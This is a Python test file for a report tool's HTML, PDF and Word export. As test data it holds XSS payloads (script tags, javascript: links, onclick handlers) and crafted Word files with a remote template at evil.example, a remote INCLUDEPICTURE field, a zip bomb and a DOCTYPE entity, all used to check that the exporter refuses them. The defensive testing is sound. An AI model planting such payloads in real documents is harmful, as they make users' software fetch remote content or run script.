"""The documents as HTML, PDF and Word (issue 16): read back with html.parser, pypdf and python-docx."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from format_readers import (
    docx_document,
    docx_parts,
    field_codes,
    html_facts,
    markdown_headings,
    markdown_table_rows,
    pdf_pages,
)
from report_helpers import rich_session
from store_support import ROOT, cli_env

from facilitator.base.errors import ReportError
from facilitator.domain.model import SectionDraft
from facilitator.reports import formats
from facilitator.reports.document_meta import document_meta
from facilitator.reports.figure import Figure
from facilitator.reports.figures import document_figures
from facilitator.reports.formats import convert, pandoc
from facilitator.reports.render import render

SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="240" height="120" viewBox="0 0 240 120">'
    '<rect x="10" y="10" width="100" height="100" fill="#777"/><circle cx="180" cy="60" r="40"/></svg>'
)


def _png() -> bytes:
    import typst

    return typst.compile(
        b'#set page(width: auto, height: auto, margin: 0pt)\n#image(bytes(sys.inputs.at("svg")))',
        format="png",
        sys_inputs={"svg": SVG},
    )


FIGURE = Figure("test-chart", "Squares and circles", SVG, "One square, one circle.", _png)


def _markdown(session, document, figure=False):
    text = render(session, document)
    if figure:
        text += f"\n\n![{FIGURE.title}]({FIGURE.link})\n\n{FIGURE.text}\n"
    return text


@pytest.fixture(scope="module")
def session():
    return rich_session()


@pytest.fixture(scope="module")
def converted(session):
    """Each document in each format, made once for the module (the figure in the scorecard)."""
    out = {}
    for document in ("agreement", "scorecard"):
        text = _markdown(session, document, figure=document == "scorecard")
        # The document's own charts (the scorecard's radar and heatmap), and a hand-made one.
        figures = document_figures(session, document, None) + ((FIGURE,) if document == "scorecard" else ())
        meta = document_meta(session, document)
        out[document] = {"md": text} | {fmt: convert(text, fmt, meta, figures) for fmt in ("html", "pdf", "docx")}
    return out


def test_only_an_agreement_agreed_and_endorsed_in_full_is_final(session):
    assert document_meta(session, "agreement").draft
    assert not document_meta(session, "scorecard").draft
    final = rich_session()
    keys = [p.key for p in final.partners]
    from facilitator.domain import content

    for section in content.load_checklist(final.checklist_version).sections:
        final.sections[section.key] = SectionDraft(text="Agreed.", agreed=True, endorsed_by=list(keys))
    assert not document_meta(final, "agreement").draft
    final.sections[section.key].endorsed_by = keys[:-1]  # one partner short
    assert document_meta(final, "agreement").draft
    assert (
        document_meta(final, "agreement").heading == "Northern Logistics Alliance · Partnership agreement · Version 1"
    )
    # The version is the agreement's: the scorecard's header names none.
    assert document_meta(final, "scorecard").heading == "Northern Logistics Alliance · Health-check scorecard"


@pytest.mark.parametrize("document", ["agreement", "scorecard"])
def test_pdf_has_every_heading_the_header_and_page_x_of_y(converted, document):
    pages = pdf_pages(converted[document]["pdf"])
    whole = re.sub(r"\s+", " ", " ".join(pages))
    for _, heading in markdown_headings(converted[document]["md"]):
        assert re.sub(r"\s+", " ", heading) in whole
    assert len(pages) >= 2
    for number, text in enumerate(pages, 1):
        assert f"Page {number} of {len(pages)}" in text
        assert "Northern Logistics Alliance" in text
        assert ("DRAFT" in text) == (document == "agreement")


@pytest.mark.parametrize("document", ["agreement", "scorecard"])
def test_docx_headings_tables_header_and_page_fields(converted, document):
    data, markdown = converted[document]["docx"], converted[document]["md"]
    word = docx_document(data)
    headings = [
        (int(p.style.name.split()[-1]), p.text)
        for p in word.paragraphs
        if p.style.name.startswith("Heading") or p.style.name == "Title"
    ]
    assert [text for _, text in headings] == [text for _, text in markdown_headings(markdown)]
    assert [len(table.rows) for table in word.tables] == markdown_table_rows(markdown)
    assert docx_parts(data)["word/document.xml"].count("<w:drawing") == markdown.count("](figures/")  # each chart
    header = " ".join(p.text for p in word.sections[-1].header.paragraphs)
    assert "Northern Logistics Alliance · " in header
    assert ("DRAFT" in header) == (document == "agreement")
    assert sorted(field_codes(data)) == ["NUMPAGES", "PAGE"]
    footer = docx_parts(data)["word/facilitator-footer.xml"]
    assert "Page " in footer and " of " in footer


def test_docx_uses_the_figure_as_png_and_the_default_house_style(converted):
    data = converted["scorecard"]["docx"]
    with zipfile.ZipFile(__import__("io").BytesIO(data)) as z:
        media = [n for n in z.namelist() if n.startswith("word/media/")]
        assert media and z.read(media[0]).startswith(b"\x89PNG")
    styles = docx_parts(data)["word/styles.xml"]
    assert 'w:fill="E8ECEF"' in styles  # our reference document's shaded table head


def test_html_is_self_contained_and_shows_the_header(converted):
    for document in ("agreement", "scorecard"):
        facts = html_facts(converted[document]["html"])
        assert "script" not in facts.tags
        assert all(src.startswith("data:image/") for src in facts.img_srcs)
        assert not [h for h in facts.hrefs if not h.startswith("#")]
        text = " ".join(facts.text)
        assert "Northern Logistics Alliance · " in text
        assert ("DRAFT" in text) == (document == "agreement")
    assert html_facts(converted["scorecard"]["html"]).img_srcs[0].startswith("data:image/svg+xml;base64,")
    assert b"counter(pages)" in converted["agreement"]["html"]  # "Page x of y" when printed


def test_pdf_shows_the_figure(converted, session):
    text = " ".join(pdf_pages(converted["scorecard"]["pdf"]))
    assert FIGURE.text in text
    without = convert(_markdown(session, "scorecard"), "pdf", document_meta(session, "scorecard"))
    assert len(converted["scorecard"]["pdf"]) > len(without) + 300  # the drawing is in it


def test_a_chart_title_is_not_repeated_as_a_caption(converted, session):
    """Every chart draws its own title; pandoc made the image's alternative text a caption under it
    too ("Figure 1: Scores by partner, point by point" beneath the same words in the chart)."""
    titles = [f.title for f in document_figures(session, "scorecard", None)]
    assert titles
    pdf = re.sub(r"\s+", " ", " ".join(pdf_pages(converted["scorecard"]["pdf"])))
    assert "Figure 1" not in pdf and FIGURE.title not in pdf  # the hand-made chart draws no title
    for title in titles:
        assert pdf.count(title) == 1, title  # the one drawn in the chart
    word = docx_document(converted["scorecard"]["docx"])
    assert not [p.text for p in word.paragraphs if "Caption" in p.style.name]
    assert not [p.text for p in word.paragraphs if p.text.strip() in titles + [FIGURE.title]]
    # The title stays the picture's description, for a screen reader.
    assert [shape._inline.docPr.get("descr") for shape in word.inline_shapes] == titles + [FIGURE.title]


def test_a_figure_not_handed_over_and_remote_images_and_links_are_dropped(session, tmp_path):
    text = _markdown(session, "agreement") + (
        "\n\n![remote](http://example.com/t.png) ![local](/etc/hostname) ![other](figures/other.svg) "
        "[x](javascript:alert(1)) [y](JAVASCRIPT:alert(1)) [ok](https://example.com)\n\n<script>alert(1)</script>\n"
        '\n[![inner](http://example.com/i.png) linked](data:text/html,x "a \\" title") <b onclick="x()">b</b>\n'
    )
    meta = document_meta(session, "agreement")
    facts = html_facts(convert(text, "html", meta))
    assert facts.img_srcs == [] and "script" not in facts.tags and not facts.handlers
    assert facts.hrefs == ["https://example.com"]
    shown = " ".join(" ".join(facts.text).split())  # what a link or picture not kept leaves: its words
    assert all(words in shown for words in ("remote", "local", "other", "x y ok", "inner linked"))
    word = convert(text, "docx", meta)
    assert not [n for n in zipfile.ZipFile(__import__("io").BytesIO(word)).namelist() if "media" in n]
    pdf = " ".join(pdf_pages(convert(text, "pdf", meta)))
    assert "remote" in pdf and "alert(1)" in pdf


@pytest.mark.parametrize("fmt, module", [("docx", "pypandoc"), ("pdf", "typst")])
def test_without_the_extra_one_line_names_it(session, monkeypatch, fmt, module):
    monkeypatch.setitem(sys.modules, module, None)  # import fails as when not installed
    pandoc.pandoc_path.cache_clear()
    try:
        with pytest.raises(pandoc.DocumentsExtraMissing) as raised:
            convert("# x\n", fmt, document_meta(session, "agreement"))
    finally:
        pandoc.pandoc_path.cache_clear()
    assert "pip install 'facilitator[documents]'" in str(raised.value)
    assert "\n" not in str(raised.value)


def test_html_needs_no_extra(session, monkeypatch):
    """The HTML is written by cmark-gfm, in this process: pandoc and Typst are not needed."""
    monkeypatch.setitem(sys.modules, "pypandoc", None)
    monkeypatch.setitem(sys.modules, "typst", None)
    pandoc.pandoc_path.cache_clear()
    try:
        facts = html_facts(convert(_markdown(session, "agreement"), "html", document_meta(session, "agreement")))
    finally:
        pandoc.pandoc_path.cache_clear()
    assert "table" in facts.tags and "Signatures" in facts.text


def test_pandoc_is_found_in_the_wheel_without_importing_pypandoc(tmp_path, monkeypatch):
    """`pypandoc/files/pandoc`, found from the package's files: pypandoc's import and look-up
    (35 ms) are skipped. A package without the binary, or PYPANDOC_PANDOC, leaves it to pypandoc."""
    package = tmp_path / "pypandoc"
    (package / "files").mkdir(parents=True)
    (package / "__init__.py").write_text("raise ImportError('found without being imported')\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.delitem(sys.modules, "pypandoc", raising=False)
    monkeypatch.delenv("PYPANDOC_PANDOC", raising=False)
    assert pandoc.bundled_pandoc() is None  # plain pypandoc: no binary in its files
    binary = package / "files" / "pandoc"
    binary.write_text("#!/bin/sh\n")
    binary.chmod(0o644)
    assert pandoc.bundled_pandoc() is None  # not executable
    binary.chmod(0o755)
    assert pandoc.bundled_pandoc() == str(binary)
    pandoc.pandoc_path.cache_clear()
    try:
        assert pandoc.pandoc_path() == str(binary)
    finally:
        pandoc.pandoc_path.cache_clear()
    assert "pypandoc" not in sys.modules
    monkeypatch.setenv("PYPANDOC_PANDOC", "/opt/pandoc/bin/pandoc")
    assert pandoc.bundled_pandoc() is None  # the user's choice: pypandoc's look-up honours it


def test_without_the_bundled_binary_pypandoc_finds_pandoc(monkeypatch):
    fake = type(sys)("pypandoc")
    fake.get_pandoc_path = lambda: "/usr/bin/pandoc"
    monkeypatch.setitem(sys.modules, "pypandoc", fake)
    monkeypatch.setattr(pandoc, "bundled_pandoc", lambda: None)
    pandoc.pandoc_path.cache_clear()
    try:
        assert pandoc.pandoc_path() == "/usr/bin/pandoc"
    finally:
        pandoc.pandoc_path.cache_clear()


def test_the_installed_wheels_pandoc_is_the_one_pypandoc_bundles():
    probe = (
        "import sys; from facilitator.reports.formats.pandoc import bundled_pandoc; "
        "print(bundled_pandoc(), 'pypandoc' in sys.modules)"
    )
    result = subprocess.run([sys.executable, "-c", probe], cwd=ROOT, capture_output=True, text=True, check=True)
    found, imported = result.stdout.split()
    import pypandoc

    ours = Path(pypandoc.__file__).resolve().parent / "files" / "pandoc"
    if not ours.is_file():
        pytest.skip("pypandoc without its binary (not pypandoc-binary)")
    assert Path(found).resolve() == ours and imported == "False"


def test_markdown_is_unchanged_by_the_formats(session):
    text = render(session, "agreement")
    assert convert(text, "md", document_meta(session, "agreement")) == text.encode("utf-8")
    assert formats.DOCUMENT_FORMATS == ("md", "html", "pdf", "docx")


# --------------------------------------------------------------------------------------------
# The command line


@pytest.fixture
def demo(cli):
    result = cli("demo", "--no-open")
    assert result.returncode == 0, result.stderr
    return result.stdout.strip()


# The converters are imported when a document is converted, never before: not by a listing, not
# by the TUI's start (pandoc's module alone costs 35 ms, Typst's 30 ms).
def _converter_modules(modules) -> list[str]:
    return sorted(
        m
        for m in modules
        if m.split(".")[0] in ("pypandoc", "typst")
        or m == "facilitator.reports.formats"
        or m.startswith("facilitator.reports.formats.")
    )


def test_list_does_not_import_the_converters(cli, demo):
    for args in (["list"], ["list", "--json"], ["list", "--status", "ok"]):
        result = cli(*args, flags=["-X", "importtime"])
        assert result.returncode == 0, result.stderr
        modules = [
            line.rsplit("|", 1)[-1].strip() for line in result.stderr.splitlines() if line.startswith("import time:")
        ]
        assert "facilitator.storage.store" in modules, "no -X importtime output"
        assert _converter_modules(modules) == [], args


TUI_START = """
import asyncio, sys
from facilitator.tui.app import make_app

async def start():
    app = make_app(data_dir=sys.argv[1])
    async with app.run_test(size=(100, 30)) as pilot:
        for _ in range(2):  # the list's rows are read by a worker
            await app.workers.wait_for_complete()
            await pilot.pause()
        print(type(app.screen).__name__, app.screen.table.row_count)

asyncio.run(start())
print(" ".join(sorted(m for m in sys.modules if m.split(".")[0] in ("pypandoc", "typst")
    or m == "facilitator.reports.formats" or m.startswith("facilitator.reports.formats."))) or "none")
"""


def test_the_tui_start_does_not_import_the_converters(cli, demo, data_dir):
    """The app started (headless) to its session list, the demo session in it."""
    result = subprocess.run(
        [sys.executable, "-c", TUI_START, str(data_dir)],
        cwd=ROOT,
        env=cli_env(data_dir),
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr[-2000:]
    assert result.stdout.split("\n")[:2] == ["SessionListScreen 1", "none"], result.stdout


def test_export_format_pdf_and_docx_to_files(cli, demo, tmp_path):
    for fmt in ("pdf", "docx", "html"):
        target = tmp_path / f"agreement.{fmt}"
        result = cli("export", demo, "--format", fmt, "-o", str(target))
        assert result.returncode == 0, result.stderr
        assert target.stat().st_size > 1000
    assert pdf_pages(target.with_suffix(".pdf").read_bytes())
    assert docx_document(target.with_suffix(".docx").read_bytes()).paragraphs


def test_pack_writes_both_documents_in_every_format(cli, demo, tmp_path):
    folder = tmp_path / "pack"
    result = cli("export", demo, "--document", "pack", "-o", str(folder))
    assert result.returncode == 0, result.stderr
    names = sorted(p.name for p in folder.iterdir() if p.is_file())
    assert names == sorted(f"{demo}-{d}.{s}" for d in ("agreement", "scorecard") for s in ("md", "html", "pdf", "docx"))
    # The Markdown's charts beside it, as its links name them.
    markdown = (folder / f"{demo}-scorecard.md").read_text(encoding="utf-8")
    linked = sorted(re.findall(r"\]\((figures/[^)]+\.svg)\)", markdown))
    assert linked and sorted(f"figures/{p.name}" for p in (folder / "figures").iterdir()) == linked


def test_a_failed_conversion_leaves_the_earlier_files_untouched(cli, demo, tmp_path):
    folder = tmp_path / "pack"
    assert cli("export", demo, "--document", "pack", "-o", str(folder)).returncode == 0
    before = {p.name: p.read_bytes() for p in folder.rglob("*") if p.is_file()}
    templates = tmp_path / "templates"
    templates.mkdir()
    (templates / "agreement.md.j2").write_text("# {{ title.alliance }} changed\n")
    (templates / "scorecard.md.j2").write_text("{{ nonsense.missing }}\n")
    result = cli("export", demo, "--document", "pack", "--templates", str(templates), "-o", str(folder))
    assert result.returncode == 1
    assert len(result.stderr.strip().splitlines()) == 1
    assert {p.name: p.read_bytes() for p in folder.rglob("*") if p.is_file()} == before


def test_reference_doc_from_the_option_or_the_templates_folder(cli, demo, tmp_path):
    from facilitator.reports.formats.docx import DEFAULT_REFERENCE

    ours = tmp_path / "house.docx"
    with zipfile.ZipFile(DEFAULT_REFERENCE) as source, zipfile.ZipFile(ours, "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "word/styles.xml":
                data = data.replace(b'w:fill="E8ECEF"', b'w:fill="ABCDEF"')
            target.writestr(item, data)
    out = tmp_path / "a.docx"
    assert cli("export", demo, "--format", "docx", "--reference-doc", str(ours), "-o", str(out)).returncode == 0
    assert 'w:fill="ABCDEF"' in docx_parts(out.read_bytes())["word/styles.xml"]
    templates = tmp_path / "templates"
    templates.mkdir()
    (templates / "reference.docx").write_bytes(ours.read_bytes())
    for name in ("agreement", "scorecard"):
        from facilitator.reports.render import template_path

        (templates / f"{name}.md.j2").write_bytes(template_path(name).read_bytes())
    out.unlink()
    assert cli("export", demo, "--format", "docx", "--templates", str(templates), "-o", str(out)).returncode == 0
    assert 'w:fill="ABCDEF"' in docx_parts(out.read_bytes())["word/styles.xml"]


@pytest.mark.parametrize(
    "args, message",
    [
        (["--document", "pack"], "name a folder with -o DIR"),
        (["--document", "pack", "--format", "pdf", "-o", "x"], "leave out --format"),
        (["--format", "pdf", "--reference-doc", "x.docx", "-o", "a.pdf"], "--format docx"),
        (["--format", "docx", "--reference-doc", "missing.docx", "-o", "a.docx"], "not found"),
    ],
)
def test_export_mistakes_are_one_line(cli, demo, tmp_path, args, message):
    result = cli("export", demo, *args, cwd=tmp_path)
    assert result.returncode == 1
    assert message in result.stderr and len(result.stderr.strip().splitlines()) == 1


def _reference_with(tmp_path, name: str, changes: dict[str, bytes]) -> Path:
    from facilitator.reports.formats.docx import DEFAULT_REFERENCE

    path = tmp_path / name
    with zipfile.ZipFile(DEFAULT_REFERENCE) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item, changes.pop(item.filename, source.read(item)))
        for filename, data in changes.items():
            target.writestr(filename, data)
    return path


def test_a_hostile_reference_document_is_refused_in_one_line(tmp_path):
    """A reference document is a house style: not a remote template Word would fetch, not a zip
    bomb that makes pandoc take gigabytes (both found by the red team)."""
    from facilitator.reports.formats.docx import reference_doc

    remote = _reference_with(
        tmp_path,
        "remote.docx",
        {
            "word/_rels/settings.xml.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org'
            b'/package/2006/relationships"><Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
            b'TargetMode="External"/></Relationships>'
        },
    )
    bomb = _reference_with(tmp_path, "bomb.docx", {"word/padding.xml": b" " * 60_000_000})
    for path, said in ((remote, "links to files outside itself"), (bomb, "too large")):
        with pytest.raises(ReportError) as refused:
            reference_doc(path, None)
        assert said in str(refused.value) and "\n" not in str(refused.value)
    assert reference_doc(None, None).is_file()  # ours passes its own check


def test_a_hostile_reference_document_is_refused_whatever_its_quoting_or_prefix(tmp_path):
    """The checks read the parsed XML: single quotes, another prefix bound to Word's namespace or
    a document type declaration do not get a remote template or a field past them."""
    from facilitator.reports.formats.docx import reference_doc

    w = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    variants = {
        "quotes.docx": (
            "word/_rels/settings.xml.rels",
            b"<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
            b"<Relationship Id='rIdT' Type='http://x/relationships/other' Target='http://evil.example/t.dotm' "
            b"TargetMode='External'/></Relationships>",
            "links to files outside itself",
        ),
        "prefix.docx": (
            "word/settings.xml",
            b'<ns9:settings xmlns:ns9="' + w + b'"><ns9:attachedTemplate xmlns:r="r" r:id="rIdT"/></ns9:settings>',
            "attaches a template",
        ),
        "field.docx": (
            "word/header1.xml",
            b'<x:hdr xmlns:x="' + w + b'"><x:p><x:r><x:instrText> INCLUDEPICTURE "http://e/x" </x:instrText>'
            b"</x:r></x:p></x:hdr>",
            "holds field codes",
        ),
        "doctype.docx": (
            "word/settings.xml",
            b'<!DOCTYPE x [<!ENTITY a "aaaa">]><w:settings xmlns:w="' + w + b'">&a;</w:settings>',
            "declares a document type",
        ),
    }
    for name, (part, data, said) in variants.items():
        path = _reference_with(tmp_path, name, {part: data})
        with pytest.raises(ReportError) as refused:
            reference_doc(path, None)
        assert said in str(refused.value) and "\n" not in str(refused.value), name


def test_a_figures_link_next_to_the_export_is_not_followed(cli, demo, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "scorecard-radar.svg").write_text("keep", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    (out / "figures").symlink_to(elsewhere)
    result = cli("export", demo, "--document", "scorecard", "-o", str(out / "s.md"))
    assert result.returncode == 1 and "is a link" in result.stderr
    assert (elsewhere / "scorecard-radar.svg").read_text(encoding="utf-8") == "keep"


def test_the_pack_folder_is_checked_before_it_is_made(cli, demo, data_dir, tmp_path):
    """A pack named like a session's lock, a ballots folder or a link to elsewhere is refused,
    and nothing is made (red team: a folder named <id>.lock locked the session out)."""
    link = tmp_path / "elsewhere-link"
    link.symlink_to(tmp_path)
    for target, said in (
        (data_dir / f"{demo}.lock", "lock file"),
        (data_dir / "zz.ballots", "keeps in the data folder"),
        (link, "is a link"),
    ):
        result = cli("export", demo, "--document", "pack", "-o", str(target))
        assert result.returncode == 1 and said in result.stderr, result.stderr
    assert not (data_dir / f"{demo}.lock").is_dir() and not (data_dir / "zz.ballots").exists()
    assert cli("delete", demo).returncode == 0  # the session is not locked out


def test_a_pack_that_cannot_be_written_whole_replaces_nothing(cli, demo, tmp_path):
    """Red team: a write failing half-way through a pack left it half replaced. Now every file
    is written beside its old one before any is replaced."""
    pack = tmp_path / "pack"
    assert cli("export", demo, "--document", "pack", "-o", str(pack)).returncode == 0
    before = {p.relative_to(pack): p.read_bytes() for p in pack.rglob("*") if p.is_file()}
    assert len([p for p in before if p.parent == Path(".")]) == 8
    (pack / "figures").rename(tmp_path / "old-figures")
    (pack / "figures").symlink_to(tmp_path / "old-figures")  # someone's link, found only at the end
    result = cli("export", demo, "--document", "pack", "-o", str(pack), "--changes-since")
    assert result.returncode == 1 and "is a link" in result.stderr
    assert {p.name: p.read_bytes() for p in pack.iterdir() if p.is_file()} == {
        p.name: data for p, data in before.items() if p.parent == Path(".")
    }
    assert not [p for p in pack.iterdir() if p.name.startswith(".")]  # no temporary file left


def test_files_written_as_one_are_all_replaced_or_none(tmp_path, monkeypatch):
    from facilitator.storage import atomic

    paths = [tmp_path / f"f{n}.txt" for n in range(3)]
    for path in paths:
        path.write_text("old", encoding="utf-8")
    real_fsync, calls = os.fsync, []

    def disk_full_at_the_third(fd):
        calls.append(fd)
        if len(calls) == 3:
            raise OSError(28, "No space left on device")
        return real_fsync(fd)

    monkeypatch.setattr(atomic.os, "fsync", disk_full_at_the_third)
    with pytest.raises(OSError):
        atomic.atomic_write_all([atomic.NewFile(path, b"new") for path in paths])
    assert [path.read_text(encoding="utf-8") for path in paths] == ["old"] * 3
    assert sorted(p.name for p in tmp_path.iterdir()) == ["f0.txt", "f1.txt", "f2.txt"]
    monkeypatch.setattr(atomic.os, "fsync", real_fsync)
    atomic.atomic_write_all([atomic.NewFile(path, b"new") for path in paths])
    assert [path.read_text(encoding="utf-8") for path in paths] == ["new"] * 3


@pytest.mark.skipif(not hasattr(os, "getuid") or os.getuid() != 0, reason="gives a folder to another user")
def test_a_pack_folder_someone_else_made_is_refused(cli, demo, tmp_path):
    """On a shared machine a folder made first by someone else (in /tmp, say) would let its owner
    read or swap the pack: refused, nothing written."""
    theirs = tmp_path / "sponsor-pack"
    theirs.mkdir(mode=0o777)
    os.chown(theirs, 65534, 65534)
    result = cli("export", demo, "--document", "pack", "-o", str(theirs))
    assert result.returncode == 1 and "belongs to another user" in result.stderr, result.stderr
    assert list(theirs.iterdir()) == []


def test_a_folder_in_the_way_of_a_file_replaces_nothing_and_a_markdown_export_writes_as_one(cli, demo, tmp_path):
    """Red team: a folder where a pack's chart goes failed the pack after five files were replaced
    ('Nothing was replaced', it said); a figures link failed a Markdown export after it was written."""
    pack = tmp_path / "pack"
    assert cli("export", demo, "--document", "pack", "-o", str(pack)).returncode == 0
    before = {p.name: p.read_bytes() for p in pack.iterdir() if p.is_file()}
    (pack / "figures" / "scorecard-radar.svg").unlink()
    (pack / "figures" / "scorecard-radar.svg").mkdir()
    result = cli("export", demo, "--document", "pack", "-o", str(pack), "--changes-since")
    assert result.returncode == 1 and "Nothing was replaced" in result.stderr, result.stderr
    assert {p.name: p.read_bytes() for p in pack.iterdir() if p.is_file()} == before
    out = tmp_path / "md"
    out.mkdir()
    (out / "figures").symlink_to(tmp_path)
    result = cli("export", demo, "--document", "scorecard", "-o", str(out / "s.md"))
    assert result.returncode == 1 and not (out / "s.md").exists()


def test_a_pack_that_fails_in_a_new_folder_leaves_no_folder_behind(demo, data_dir, tmp_path):
    """Red team: a pack that could not be written left its new, empty folder (and figures/)."""
    import resource

    def small_files_only() -> None:  # the PDF is larger: its write fails with "File too large"
        resource.setrlimit(resource.RLIMIT_FSIZE, (30_000, 30_000))

    pack = tmp_path / "new-pack"

    def export_pack():
        command = [sys.executable, "-m", "facilitator", "export", demo, "--document", "pack", "-o", str(pack)]
        env = cli_env(data_dir)
        return subprocess.run(
            command, capture_output=True, text=True, env=env, preexec_fn=small_files_only, timeout=120
        )

    result = export_pack()
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert "too large" in result.stderr.lower(), result.stderr
    assert not pack.exists()
    # A folder that was there already stays, with what it held.
    pack.mkdir()
    (pack / "notes.txt").write_text("ours", encoding="utf-8")
    assert export_pack().returncode == 1
    assert sorted(p.name for p in pack.iterdir()) == ["notes.txt"]


@pytest.mark.skipif(not hasattr(os, "getuid") or os.getuid() != 0, reason="gives a folder to another user")
def test_a_figures_folder_someone_else_made_is_refused(cli, demo, tmp_path):
    """The Markdown export's charts go into figures/ beside it: one made first by another user
    (in /tmp, say) would let them swap the charts. Refused, as a pack's folder is."""
    out = tmp_path / "shared"
    out.mkdir()
    theirs = out / "figures"
    theirs.mkdir(mode=0o777)
    os.chown(theirs, 65534, 65534)
    result = cli("export", demo, "--document", "scorecard", "-o", str(out / "scorecard.md"))
    assert result.returncode == 1 and "belongs to another user" in result.stderr, result.stderr
    assert not (out / "scorecard.md").exists() and list(theirs.iterdir()) == []
